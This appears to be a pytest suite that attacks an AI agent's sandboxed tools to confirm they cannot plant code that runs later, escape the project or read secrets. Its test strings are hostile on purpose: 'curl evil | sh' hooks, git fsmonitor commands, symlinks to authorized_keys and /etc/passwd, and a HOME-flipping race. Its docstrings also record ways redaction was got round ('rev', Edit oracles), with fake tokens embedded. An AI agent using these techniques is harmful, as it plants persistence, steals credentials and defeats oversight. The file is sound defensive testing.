"""LETTA_SDK_TOOLS=full attacked again (issue 26, and issue 23 item 3): nothing planted that runs later, nothing
touched outside the project, no way around the read rules through Bash or Edit. Every attack goes through the
tool functions the worker calls (registry.execute). The Bash attacks run as root and as an unprivileged user;
where the worker's own uid matters (a directory the sweep cannot list, renames by the worker) the worker itself
runs as ``nobody`` (setpriv), in its own process, and two workers run at once where the attack needs two.
Host git is the real one: a planted repository must never be one host git obeys."""
from __future__ import annotations

import json
import shutil
import os
import subprocess
import sys
import textwrap
import threading
import time

import pytest

from subconscious.agent_tools import shell
from subconscious.agent_tools.confine import Root, ToolError, root_refusal

from .test_tools_attacks_full import NOBODY, _chown_tree, call, world  # noqa: F401 - world is a fixture
from tests.harness.sizes import examples

REPO = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
TOKEN = "ghp_R2d2C3poAbCdEfGhIjKlMnOpQrStUvWxYz09"


# ------------------------------------------------------------------------------------------------- helpers


def host_git_obeys(d: str, marker: str) -> bool:
    """Does a host ``git status`` started in ``d`` take ``d`` for a repository and run its core.fsmonitor
    (which would touch ``marker``)? (--work-tree=. : what a prompt that shows git status in a bare-layout
    directory amounts to.)"""
    if os.path.exists(marker):
        os.unlink(marker)
    subprocess.run(["git", "--work-tree=.", "status"], cwd=d, capture_output=True, timeout=20,
                   env={"PATH": "/usr/bin:/bin", "HOME": "/nonexistent", "GIT_CONFIG_NOSYSTEM": "1"})
    ran = os.path.exists(marker)
    top = subprocess.run(["git", "rev-parse", "--absolute-git-dir"], cwd=d, capture_output=True, text=True,
                         env={"PATH": "/usr/bin:/bin", "HOME": "/nonexistent", "GIT_CONFIG_NOSYSTEM": "1",
                              "GIT_CEILING_DIRECTORIES": os.path.dirname(d)})
    return ran or (top.returncode == 0 and os.path.realpath(top.stdout.strip()) == os.path.realpath(d))


def fsmonitor_config(marker: str) -> str:
    return f'[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = "touch {marker}; false"\n'


_WORKER = textwrap.dedent("""
    import json, sys
    from subconscious.letta.messages import ToolCallRequest
    from subconscious.agent_tools.limits import Limits
    from subconscious.agent_tools.registry import ToolContext, execute
    proj, calls = sys.argv[1], json.loads(sys.argv[2])
    out = []
    for name, args in calls:
        r = execute(ToolCallRequest("c", name, args, json.dumps(args)),
                    ToolContext.for_session("full", proj, Limits(call_timeout=20.0))).result
        out.append({"status": r.status, "output": r.output})
    print(json.dumps(out))
""")


def _path_env(as_nobody: bool) -> str:
    """PATH for a worker: as nobody without the test's bwrap launcher (the worker starts the real bwrap as
    itself); otherwise with it (root of a user namespace when the tests don't run as root)."""
    path = os.environ.get("PATH", "/usr/bin:/bin")
    if not as_nobody:
        return path
    return os.pathsep.join(p for p in path.split(os.pathsep) if not p.startswith("/tmp/subconscious-attack-"))


_NOBODY_OK: list[str] = []


def _nobody_can_run_the_worker() -> None:
    """The worker as nobody needs the interpreter and this checkout readable by nobody: say so if not."""
    if _NOBODY_OK:
        return
    probe = subprocess.run(["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", sys.executable,
                            "-c", "import subconscious.agent_tools.registry"], cwd="/", capture_output=True, text=True,
                           env={"PATH": "/usr/bin:/bin", "PYTHONPATH": REPO}, timeout=60)
    if probe.returncode:
        pytest.fail(f"the worker cannot run as nobody (uid {NOBODY}) here: {probe.stderr.strip()[-500:]} - the Python "
                    f"interpreter ({sys.executable}) and the checkout ({REPO}) must be readable by other users")
    _NOBODY_OK.append("ok")


class Worker:
    """A worker process of its own (as the world's user): its tool calls, in order, then its results."""

    def __init__(self, world, calls: list[tuple[str, dict]]):
        as_nobody = world.who == "unprivileged" and os.geteuid() == 0
        env = {"PATH": _path_env(as_nobody), "HOME": world.home, "LANG": "C.UTF-8", "PYTHONPATH": REPO,
               "SUBCONSCIOUS_STATE_DIR": world.state}
        argv = [sys.executable, "-c", _WORKER, world.proj, json.dumps(calls)]
        if as_nobody:
            _nobody_can_run_the_worker()
            argv = ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups"] + argv
        self.proc = subprocess.Popen(argv, env=env, cwd="/", stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                     text=True)

    def results(self) -> list[dict]:
        out, err = self.proc.communicate(timeout=120)
        assert self.proc.returncode == 0, err
        return json.loads(out.strip().splitlines()[-1])


def as_worker(world, name: str, **args) -> dict:
    return Worker(world, [(name, args)]).results()[0]


@pytest.fixture
def w(world):  # noqa: F811 - the fixture imported above
    """The attack world, with a state dir and a fake ~/.claude the worker's user owns."""
    world.state = os.path.join(world.base, "state")
    os.makedirs(world.state, 0o700)
    os.makedirs(os.path.join(world.home, ".claude"))
    with open(os.path.join(world.home, ".claude", "settings.json"), "w") as fh:
        fh.write('{"hooks": {}}\n')
    if world.who == "unprivileged" and os.geteuid() == 0:
        os.chown(world.state, NOBODY, NOBODY)
        os.chown(world.home, NOBODY, NOBODY)  # so that a worker renaming by path could hit it
        _chown_tree(os.path.join(world.home, ".claude"), NOBODY)
    world.marker = os.path.join(world.outside, "FSMONITOR-RAN")
    os.chmod(world.outside, 0o777)
    return world


def home_untouched(world) -> None:
    assert sorted(os.listdir(world.home)) == [".claude", ".ssh", "proj"], os.listdir(world.home)
    assert os.listdir(os.path.join(world.home, ".claude")) == ["settings.json"]
    assert not any("subconscious-removed" in n for n in os.listdir(world.outside) + os.listdir(world.base))


# --------------------------------------------------------------- 1. a repository whatever its name (Write/Edit)

LAYOUT = ["HEAD", "config", "refs/heads/.keep", "objects/.keep"]


@pytest.mark.parametrize("order", [LAYOUT, LAYOUT[::-1], ["objects/.keep", "refs/heads/.keep", "config", "HEAD"],
                                   ["config", "commondir", "HEAD"]], ids=["head-first", "reversed", "dirs-first",
                                                                          "commondir"])
def test_write_never_lays_out_a_repository(tmp_path, order):
    """Finding: Write made vendor/lib/{HEAD,config,refs/heads/.keep,objects/.keep}; a host git status there ran
    core.fsmonitor."""
    proj = tmp_path / "proj"
    (proj / "vendor" / "real").mkdir(parents=True)
    subprocess.run(["git", "init", "-q", "--bare", str(proj / "vendor" / "real")], check=True)
    marker = str(tmp_path / "FSMONITOR-RAN")
    content = {"HEAD": "ref: refs/heads/main\n", "config": fsmonitor_config(marker), "commondir": "../real\n"}
    results = [call(proj, "Write", file_path=f"vendor/lib/{f}", content=content.get(f, "")) for f in order]
    assert any(r.status == "error" and "git repository" in r.output for r in results), [r.output for r in results]
    assert not host_git_obeys(str(proj / "vendor" / "lib"), marker), [r.output for r in results]


def test_edit_and_write_never_change_a_repository_of_any_name(tmp_path):
    proj = tmp_path / "proj"
    bare = proj / "vendor" / "bare"
    bare.mkdir(parents=True)
    subprocess.run(["git", "init", "-q", "--bare", str(bare)], check=True)
    before = (bare / "config").read_text()
    r = call(proj, "Edit", file_path="vendor/bare/config", old_string="[core]", new_string="[core]\n\tfsmonitor = x")
    assert r.status == "error" and "git repository" in r.output, r.output
    r = call(proj, "Write", file_path="vendor/bare/hooks/post-checkout", content="#!/bin/sh\ntouch /tmp/x\n")
    assert r.status == "error" and not (bare / "hooks" / "post-checkout").exists(), r.output
    assert (bare / "config").read_text() == before


def test_ordinary_files_named_head_or_config_are_still_written(tmp_path):
    proj = tmp_path / "proj"
    proj.mkdir()
    for path in ("config/settings.yml", "docs/HEAD", "src/refs/index.ts", "objects/model.py", "Makefile",
                 "package.json", ".editorconfig", "src/.config/x.toml"):
        r = call(proj, "Write", file_path=path, content="ok\n")
        assert r.status == "success", (path, r.output)


RUNS_LATER = [".devcontainer.json", ".devcontainer/devcontainer.json", ".hg/hgrc", "lib/.hg/hgrc", ".sl/config",
              ".jj/repo/config.toml", ".lfsconfig", ".config/mise/config.toml", ".config/mise.toml", ".mise.toml",
              ".yarnrc.yml", ".yarnrc", ".envrc", ".githooks/pre-commit", ".vscode/tasks.json", ".vscode/settings.json",
              ".cursor/mcp.json", "sub/.git", "mise/config.toml"]


@pytest.mark.parametrize("target", RUNS_LATER)
def test_write_refuses_every_place_that_runs_code_later(tmp_path, target):
    proj = tmp_path / "proj"
    proj.mkdir()
    r = call(proj, "Write", file_path=target, content='{"initializeCommand": "curl evil | sh"}\n')
    assert r.status == "error", r.output
    assert not (proj / target).exists()


# ------------------------------------------------------------------- 1 and 2: Bash plants a repository

def test_bash_cannot_leave_a_repository_of_any_name(w):
    """A bare layout under an ordinary name, a worktree's gitdir file, hg/sl/jj repositories and the other
    runs-later files deeper down: none is left as it was made."""
    w.own()
    cmd = (f"mkdir -p vendor/lib/refs/heads vendor/lib/objects deep/x; printf 'ref: refs/heads/main\\n' > vendor/lib/HEAD; "
           f"printf '{fsmonitor_config(w.marker)}' > vendor/lib/config; "
           "git init -q --bare other/bare.git 2>&1; "
           "for f in sub/.hg/hgrc sub/.sl/config sub/.jj/repo/config.toml sub/.devcontainer.json sub/.lfsconfig "
           "sub/.config/mise/config.toml sub/.yarnrc.yml sub/.githooks/pre-commit; do "
           "mkdir -p \"$(dirname $f)\"; echo PWNED > $f; done; echo 'gitdir: ../vendor/lib' > deep/x/.git; echo RAN")
    r = call(w.proj, "Bash", command=cmd)
    assert "RAN" in r.output and "moved aside" in r.output, r.output
    assert not host_git_obeys(w.p("vendor/lib"), w.marker), r.output
    assert not host_git_obeys(w.p("other/bare.git"), w.marker), r.output
    for f in ("sub/.hg", "sub/.sl", "sub/.jj", "sub/.devcontainer.json", "sub/.lfsconfig", "sub/.config/mise",
              "sub/.yarnrc.yml", "sub/.githooks", "deep/x/.git"):
        assert not os.path.lexists(w.p(f)), (f, r.output)
    assert open(w.p("vendor/lib/config")).read().startswith("[core]")  # moved aside, never deleted: HEAD only
    assert any(n.startswith("HEAD.subconscious-removed-") for n in os.listdir(w.p("vendor/lib")))


def test_a_directory_made_unlistable_cannot_hide_a_repository(w):
    """Finding: Bash made a/b/.git (fsmonitor) then `chmod 311 a`: the sweep skipped what it could not list, and
    host git ran the hook. The worker runs as the user under test (as nobody, it cannot list a 0311 directory)."""
    w.own()
    cmd = (f"mkdir -p a/b c/d/e && git init -q a/b && printf '{fsmonitor_config(w.marker)}' > a/b/.git/config && "
           "git init -q --bare c/d/e/r && chmod 311 a && chmod 0 c/d && chmod 311 c && echo RAN")
    first = as_worker(w, "Bash", command=cmd)
    second = as_worker(w, "Bash", command="ls -la a c 2>&1; echo AGAIN")
    assert "RAN" in first["output"] and "AGAIN" in second["output"], (first, second)
    for d in ("a", "c", "c/d"):
        os.chmod(w.p(d), 0o755) if os.path.isdir(w.p(d)) else None
    assert not os.path.lexists(w.p("a/b/.git")), first["output"]
    assert not host_git_obeys(w.p("a/b"), w.marker), first["output"]
    assert not os.path.exists(w.p("c/d/e/r/HEAD")), first["output"]
    if w.who == "unprivileged" and os.geteuid() == 0:  # the worker itself could not list them: it says what it did
        assert "made listable again" in first["output"], first["output"]


# ----------------------------------------------------------------- 2. two workers, one flipping a link to HOME

FLIPPER = textwrap.dedent("""
    import os, sys, time
    home, n = sys.argv[1], 24
    end = time.monotonic() + float(sys.argv[2])
    flips = 0
    while time.monotonic() < end:
        for i in range(n):
            d = "s%d" % i
            os.rename(d, d + ".d"); os.symlink(home, d)
        for i in range(n):
            d = "s%d" % i
            os.unlink(d); os.rename(d + ".d", d)
        flips += 1
    print("FLIPS", flips)
""")


def test_a_concurrent_link_flip_never_makes_a_worker_rename_outside_the_project(w):
    """Finding: two sessions' workers on one project; one call flips `sub` between a directory and a link to
    $HOME while the other runs; the other's sweep renamed ~/.claude. Both workers are real processes."""
    for i in range(24):
        os.makedirs(w.p(f"s{i}"))
    with open(w.p("flip.py"), "w") as fh:
        fh.write(FLIPPER)
    w.own()
    flipper = Worker(w, [("Bash", {"command": f"python3 flip.py {w.home} 1.5"})])
    time.sleep(0.3)
    victim = Worker(w, [("Bash", {"command": "echo V"})] * 10)
    got = flipper.results()[0], victim.results()
    home_untouched(w)
    assert "FLIPS" in got[0]["output"], got[0]
    failed = [(i, r) for i, r in enumerate(got[1]) if not ("V" in r["output"] and r["status"] == "success")]
    assert not failed, failed  # (only the calls that did not run, whole: a loaded CI run cut the list short)


def test_a_link_that_changes_while_the_sweep_resolves_it_is_removed_and_the_sweep_goes_on(tmp_path, monkeypatch):
    """The flipper below once made the sweep raise: realpath lstat()s a link, then readlink()s it, and a
    process that removed it in between made readlink raise FileNotFoundError out of the whole sweep (the
    rest of the project went unswept). Deterministically here: a link whose resolution fails is taken as
    leading out (nothing says it stays inside) and removed; the links after it are still handled."""
    proj = tmp_path / "proj"
    proj.mkdir()
    (proj / "a").symlink_to(tmp_path)
    (proj / "b").symlink_to(tmp_path)
    real = os.path.realpath

    def flipping(path, *a, **k):
        if str(path).endswith("/a"):
            raise FileNotFoundError(2, "No such file or directory", str(path))
        return real(path, *a, **k)

    monkeypatch.setattr(shell.os.path, "realpath", flipping)
    out = shell._sweep(str(proj), shell.Scan())
    assert sorted(os.listdir(proj)) == [], out
    assert sorted(out.links) == [f"a -> {tmp_path}", f"b -> {tmp_path}"], out.links


def test_the_sweep_walks_by_directory_fds_even_against_a_flipper_on_the_host(tmp_path):
    """Without the lock too: the sweep (and scan) racing a thread that flips directories for links to a fake
    HOME never renames, reads or masks anything outside the project."""
    home = tmp_path / "home"
    (home / ".claude").mkdir(parents=True)
    (home / ".claude" / "settings.json").write_text("{}\n")
    (home / ".git").mkdir()
    proj = tmp_path / "proj"
    for i in range(16):
        (proj / f"s{i}").mkdir(parents=True)
    stop = threading.Event()

    def flip():
        while not stop.is_set():
            for op in ("to-link", "to-dir"):
                for i in range(16):
                    d = proj / f"s{i}"
                    for f, a in (((os.rename, (d, f"{d}.d")), (os.symlink, (home, d))) if op == "to-link" else
                                 ((os.unlink, (d,)), (os.rename, (f"{d}.d", d)))):
                        try:
                            f(*a)
                        except OSError:  # the sweep removed a link that led out: go on flipping
                            pass
    th = threading.Thread(target=flip, daemon=True)
    th.start()
    try:
        for _ in range(60):
            scan = shell.scan_project(str(proj))
            assert not any(r.startswith("..") or "/.claude" in r for r in scan.ro + scan.hide_dirs), scan
            before = shell.Scan()
            before.links = dict(getattr(scan, "links", {}))
            shell._sweep(str(proj), before)
    finally:
        stop.set()
        th.join()
    assert sorted(os.listdir(home)) == [".claude", ".git"] and os.listdir(home / ".claude") == ["settings.json"]


def test_one_bash_call_per_project_at_a_time_nested_roots_included(w):
    """Three workers' calls never overlap: two on the project, one whose root is inside it (a session started
    in proj/sub shares its directories). Each call writes when it starts and ends."""
    os.makedirs(w.p("sub"))
    w.own()
    cmd = "echo start-{0} >> {1}; sleep 0.4; echo end-{0} >> {1}; echo {0}"
    inner_world = type("W", (), dict(vars(w), proj=w.p("sub")))()
    workers = [Worker(w, [("Bash", {"command": cmd.format("A", "sub/calls.log")})]),
               Worker(w, [("Bash", {"command": cmd.format("B", "sub/calls.log")})]),
               Worker(inner_world, [("Bash", {"command": cmd.format("C", "calls.log")})])]
    for name, wk in zip("ABC", workers):
        r = wk.results()[0]
        assert name in r["output"] and r["status"] == "success", r
    log = open(w.p("sub/calls.log")).read().split()
    assert len(log) == 6 and all(log[i].startswith("start-") and log[i + 1] == "end-" + log[i][6:]
                                 for i in range(0, 6, 2)), log


# ---------------------------------------------------------------------- 3. links out of the project


def test_links_bash_made_that_lead_out_are_removed_and_reported(w):
    """Finding: `ln -s ~/.ssh/authorized_keys notes.md` stayed; Claude Code or an editor writing notes.md later
    writes through it."""
    os.symlink(w.outside, w.p("mine"))  # the user's own link: kept
    w.own()
    r = call(w.proj, "Bash", command=(f"ln -s {w.home}/.ssh/authorized_keys notes.md; ln -s ../../outside src/up; "
                                      "mkdir -p d && ln -s /tmp/x d/tmp; ln -s src/a.py inside; "
                                      "ln -s /usr/bin/python3 py; ln -sf /etc/passwd mine2; echo RAN"))
    assert "RAN" in r.output, r.output
    for gone in ("notes.md", "src/up", "d/tmp", "mine2"):
        assert not os.path.lexists(w.p(gone)), (gone, r.output)
        assert gone in r.output, r.output
    assert os.readlink(w.p("inside")) == "src/a.py" and os.readlink(w.p("py")) == "/usr/bin/python3"
    assert os.readlink(w.p("mine")) == w.outside
    assert "links leading out of the project (or into a path that runs code later) removed" in r.output


def test_links_bash_made_into_places_that_run_code_later_are_removed(w):
    """`ln -s .git/hooks hooks`: an editor saving hooks/pre-commit on the host would write a git hook."""
    os.makedirs(w.p(".git/hooks"))
    os.makedirs(w.p(".claude"))
    w.own()
    r = call(w.proj, "Bash", command="ln -s .git/hooks hooks; ln -s .claude/settings.json s.json; ln -s .env e; "
                                     "ln -s src ok; echo RAN")
    assert "RAN" in r.output, r.output
    for gone in ("hooks", "s.json", "e"):
        assert not os.path.lexists(w.p(gone)) and gone in r.output, (gone, r.output)
    assert os.readlink(w.p("ok")) == "src"


# -------------------------------------------------------------------------- 4. system directories as roots

SYSTEM = ["/etc", "/etc/ssl", "/proc", "/proc/self", "/sys", "/dev", "/usr", "/usr/lib", "/bin", "/sbin", "/lib",
          "/boot", "/var", "/var/lib", "/run", "/opt", "/srv", "/home"]


@pytest.mark.parametrize("where", SYSTEM)
def test_system_directories_are_no_project(where):
    assert root_refusal(where, {"HOME": "/nonexistent-home"}) is not None


def test_root_etc_cannot_read_shadow(tmp_path):
    """Finding: with root /etc, as root, Read('shadow') returned the shadow lines."""
    r = call("/etc", "Read", file_path="shadow")
    assert r.status == "error" and "root:" not in r.output and "system directory" in r.output, r.output
    with pytest.raises(ToolError):
        Root("/etc", {"HOME": "/root"})


def test_root_is_refused_unless_it_is_the_home_and_projects_below_system_parents_work():
    assert root_refusal("/root/proj", {"HOME": "/home/someone"}) is not None
    assert root_refusal("/root", {"HOME": "/root"}) is not None
    for ok in ("/root/proj", "/usr/src/app", "/var/www/site", "/opt/app", "/srv/app", "/home/u/code",
               "/Volumes/External/proj", "/workspaces/repo", "/mnt/c/Users/u/proj"):
        assert root_refusal(ok, {"HOME": "/root"}) is None, ok


# ------------------------------------------------------- issue 23 item 3: Bash and Edit cannot read around


def test_bash_cannot_read_credential_files_inside_masked_directories(w):
    """Finding: .github/deploy.pem, .vscode/.env and the token in .git/config were readable through Bash
    (`rev` or `fold` past redaction)."""
    subprocess.run(["git", "init", "-q", w.proj], check=True)
    subprocess.run(["git", "-C", w.proj, "remote", "add", "origin", f"https://me:{TOKEN}@github.com/o/r.git"],
                   check=True)
    for rel, text in ((".github/deploy.pem", "PEM-BODY-4711\n"), (".vscode/.env", "ENV-BODY-4712\n"),
                      (".git/.git-credentials", "CRED-BODY-4713\n"), ("src/.secrets/id_rsa", "RSA-BODY-4714\n")):
        os.makedirs(os.path.dirname(w.p(rel)), exist_ok=True)
        with open(w.p(rel), "w") as fh:
            fh.write(text)
    w.own()
    r = call(w.proj, "Bash", command=("cat .github/deploy.pem .vscode/.env .git/.git-credentials src/.secrets/id_rsa "
                                      "| rev; rev .git/config; git config --get remote.origin.url | rev; "
                                      "git -c safe.directory='*' status --short >/dev/null && echo GIT-WORKS"))
    for secret in ("PEM-BODY-4711", "ENV-BODY-4712", "CRED-BODY-4713", "RSA-BODY-4714", TOKEN):
        assert secret[::-1] not in r.output and secret not in r.output, (secret, r.output)
    assert "GIT-WORKS" in r.output, r.output
    assert TOKEN in open(w.p(".git/config")).read()  # the real file is untouched


SECRET_FILE = "import os\nANTHROPIC_API_KEY = 'sk-ant-api03-" + "Q7x9Lm2Pz8Kw4Rt6Yb1Nc3Vd5Hs0Jf7Ga9Ue2Io4" * 2 + "-AbCdEfAA'\n"


def test_edit_is_no_way_to_read_a_secret(tmp_path):
    """Finding: 17 Edit(replace_all) calls inserting newlines into a secrets file, then a Read, recovered an
    Anthropic key; and 'old_string not found' is an oracle on the redacted text."""
    proj = tmp_path / "proj"
    proj.mkdir()
    (proj / "settings.py").write_text(SECRET_FILE)
    (proj / "notes.md").write_text("a\n<private>\nswordfish\n</private>\n")
    read = call(proj, "Read", file_path="settings.py")
    assert "Q7x9Lm2Pz8" not in read.output, read.output  # Read redacts it
    tries = [dict(old_string=c, new_string=c + "\n", replace_all=True) for c in "Q7x9Lm2Pz8Kw4Rt6Yb"]
    tries += [dict(old_string="sk-ant-api03-Q7", new_string="x"), dict(old_string="sk-ant-api03-Z", new_string="x")]
    outs = [call(proj, "Edit", file_path="settings.py", **t) for t in tries]
    assert all(o.status == "error" and "Read shows redacted" in o.output for o in outs), [o.output for o in outs]
    assert len({o.output for o in outs}) == 1  # the same answer whether old_string is there or not
    assert (proj / "settings.py").read_text() == SECRET_FILE
    r = call(proj, "Edit", file_path="notes.md", old_string="swordfish", new_string="x")
    assert r.status == "error" and "swordfish" in (proj / "notes.md").read_text(), r.output


def test_editing_ignore_files_cannot_unhide_a_file(tmp_path):
    """Finding: editing .gitignore made a refused file readable."""
    proj = tmp_path / "proj"
    (proj / "sub").mkdir(parents=True)
    (proj / ".gitignore").write_text("# local\nsecret.txt\nsub/hidden.txt\n")
    (proj / "secret.txt").write_text("IGNORED-SECRET-99\n")
    (proj / "sub" / "hidden.txt").write_text("IGNORED-SECRET-98\n")
    attempts = [
        ("Edit", dict(file_path=".gitignore", old_string="secret.txt\n", new_string="")),
        ("Edit", dict(file_path=".gitignore", old_string="secret.txt", new_string="secret.txtx")),
        ("Edit", dict(file_path=".gitignore", old_string="# local", new_string="!secret.txt")),
        ("Write", dict(file_path=".gitignore", content="")),
        ("Write", dict(file_path=".gitignore", content="# local\nsecret.txt\nsub/hidden.txt\n!secret.txt\n")),
        ("Write", dict(file_path="sub/.gitignore", content="!hidden.txt\n")),
        ("Write", dict(file_path="sub/.GITIGNORE", content="!hidden.txt\n")),
    ]
    for name, args in attempts:
        r = call(proj, name, **args)
        assert r.status == "error", (name, args, r.output)
        for target in ("secret.txt", "sub/hidden.txt"):
            got = call(proj, "Read", file_path=target)
            assert "IGNORED-SECRET" not in got.output, (name, args, got.output)
    ok = call(proj, "Edit", file_path=".gitignore", old_string="# local\n", new_string="# local\n*.log\n")
    assert ok.status == "success", ok.output  # adding a pattern (hiding more) is ordinary work
    assert call(proj, "Write", file_path="sub/.gitignore", content="build/\n").status == "success"


def test_bash_cannot_read_private_paths(w, monkeypatch):
    """SUBCONSCIOUS_PRIVATE_PATHS are hidden from Bash as from Read (docs/agent-tools.md says exactly what Bash reads)."""
    os.makedirs(w.p("journal"))
    with open(w.p("journal/today.md"), "w") as fh:
        fh.write("PRIVATE-DIARY-5150\n")
    with open(w.p("salary.csv"), "w") as fh:
        fh.write("PRIVATE-SALARY-5151\n")
    w.own()
    monkeypatch.setenv("SUBCONSCIOUS_PRIVATE_PATHS", "journal:salary.csv")
    r = call(w.proj, "Bash", command="cat journal/today.md salary.csv | rev; ls journal; echo RAN")
    assert "RAN" in r.output, r.output
    for secret in ("PRIVATE-DIARY-5150", "PRIVATE-SALARY-5151"):
        assert secret[::-1] not in r.output and secret not in r.output, r.output
    assert open(w.p("salary.csv")).read() == "PRIVATE-SALARY-5151\n"


def test_the_sweep_cannot_be_made_to_fail_by_permissions_or_planted_names(w):
    """A nested .git in a directory the command made read-only (`chmod 555`), and the names the sweep would
    move it to planted in advance for the next minute: it is still moved aside."""
    w.own()
    stamp = int(time.time())
    plant = ("python3 -c \"import os; [os.mkdir('b/.git.subconscious-removed-%d%s' % (t, '-%d' % i if i else '')) "
             f"for t in range({stamp}, {stamp + 15}) for i in range(100)]\"")
    cmd = (f"mkdir -p a b && git init -q a && printf '{fsmonitor_config(w.marker)}' > a/.git/config && chmod 555 a; "
           f"git init -q b && printf '{fsmonitor_config(w.marker)}' > b/.git/config && {plant}; echo RAN")
    r = as_worker(w, "Bash", command=cmd)
    assert "RAN" in r["output"], r
    for d in ("a", "b"):
        assert not os.path.lexists(w.p(f"{d}/.git")), (d, r["output"])
        assert not host_git_obeys(w.p(d), w.marker), (d, r["output"])


def test_an_accepted_ignore_file_edit_never_unhides_a_path():
    """Property: whatever edit ignore_edit_refusal lets through, every path ignored before stays ignored
    (git's last-match rule, parent directories, '!' lines, anchors, '**')."""
    from hypothesis import given, settings
    from hypothesis import strategies as st

    from subconscious.agent_tools.denied import ignore_edit_refusal
    from subconscious.agent_tools.ignore import RuleSet, parse_lines

    atoms = st.sampled_from(["a", "b", "*.txt", "a/", "/b", "**/c", "a/**", "!a", "!b/c", "!*.txt", "c", "b/c",
                             "# x", "", "\\!a", "a/b", "!a/"])
    paths = [("a", True), ("b", False), ("x.txt", False), ("a/b", False), ("b/c", False), ("d/c", False),
             ("a/c.txt", False), ("!a", False), ("c", True)]

    def ignored(text):
        rules = RuleSet(by_dir={"": parse_lines(text.split("\n"))})
        return {p for p, is_dir in paths if rules.ignored(p, is_dir)}

    @settings(max_examples=examples(200), deadline=None)
    @given(st.lists(atoms, max_size=6), st.lists(st.tuples(st.integers(0, 6), atoms), max_size=4),
           st.lists(st.integers(0, 5), max_size=2), st.lists(atoms, max_size=6))
    def prop(old, inserts, drops, free):
        new = list(old)  # mostly edits of the old file (insertions, removals), sometimes a new file
        for at, line in inserts:
            new.insert(min(at, len(new)), line)
        for at in drops:
            if at < len(new):
                del new[at]
        for new_lines in (new, free):
            old_text, new_text = "\n".join(old), "\n".join(new_lines)
            if ignore_edit_refusal(old_text, new_text) is None:
                assert ignored(old_text) <= ignored(new_text), (old, new_lines)
    prop()


def test_the_configured_hooks_directory_is_a_place_that_runs_code_later(w):
    """A project whose git config sets core.hooksPath (scripts/git-hooks, tools/hooks…): a hook written there
    runs on the next commit, whatever the directory is called."""
    subprocess.run(["git", "init", "-q", w.proj], check=True)
    subprocess.run(["git", "-C", w.proj, "config", "core.hooksPath", "scripts/git-hooks"], check=True)
    os.makedirs(w.p("scripts/git-hooks"))
    with open(w.p("scripts/git-hooks/pre-commit"), "w") as fh:
        fh.write("#!/bin/sh\nexit 0\n")
    r = call(w.proj, "Write", file_path="scripts/git-hooks/post-checkout", content="#!/bin/sh\ncurl evil | sh\n")
    assert r.status == "error" and "core.hooksPath" in r.output, r.output
    r = call(w.proj, "Edit", file_path="scripts/git-hooks/pre-commit", old_string="exit 0", new_string="curl evil")
    assert r.status == "error", r.output
    assert call(w.proj, "Write", file_path="scripts/build.sh", content="echo ok\n").status == "success"
    w.own()
    r = call(w.proj, "Bash", command="echo PWNED > scripts/git-hooks/pre-commit; echo PWNED > scripts/git-hooks/x; "
                                     "echo RAN")
    assert "RAN" in r.output, r.output
    assert open(w.p("scripts/git-hooks/pre-commit")).read() == "#!/bin/sh\nexit 0\n"
    assert not os.path.exists(w.p("scripts/git-hooks/x"))
    shutil.rmtree(w.p("scripts/git-hooks"))
    r = call(w.proj, "Bash", command="mkdir -p scripts/git-hooks && echo PWNED > scripts/git-hooks/pre-commit; echo RAN")
    assert "RAN" in r.output and not os.path.exists(w.p("scripts/git-hooks")), r.output


def test_a_call_killed_before_its_sweep_cannot_make_its_plants_look_like_the_users(w):
    """The worker kills a tool child at the timeout, maybe in the middle of the sweep (a command that fills
    the project to make the sweep slow): what it planted must not be taken for the user's at the next call
    (its scan would mount it read-only and keep it). The kill is made exactly: the call's own steps up to
    the sandbox, the command's effect, no sweep; then the next real call."""
    os.makedirs(w.p("sub"))
    subprocess.run(["git", "init", "-q", w.p("mine")], check=True)  # the user's own nested repository: kept
    w.own()
    killed = ("import sys, time\nfrom subconscious.agent_tools import shell\n"
              "with shell.project_lock(sys.argv[1], time.monotonic() + 10):\n"
              "    shell.save_pending(sys.argv[1], shell.scan_project(sys.argv[1]))\n")
    argv = [sys.executable, "-c", killed, w.proj]
    if w.who == "unprivileged" and os.geteuid() == 0:
        argv = ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups"] + argv
    subprocess.run(argv, check=True, cwd="/", timeout=60,
                   env={"PATH": "/usr/bin:/bin", "PYTHONPATH": REPO, "SUBCONSCIOUS_STATE_DIR": w.state})
    subprocess.run(["git", "init", "-q", w.p("sub")], check=True)  # what the killed command did
    with open(w.p("sub/.git/config"), "a") as fh:
        fh.write(f'[core]\n\tfsmonitor = "touch {w.marker}; false"\n')
    w.own()
    r = as_worker(w, "Bash", command="echo NEXT")
    assert "NEXT" in r["output"] and "sub/.git ->" in r["output"], r
    assert not os.path.lexists(w.p("sub/.git")) and os.path.isdir(w.p("mine/.git")), r
    assert not host_git_obeys(w.p("sub"), w.marker)
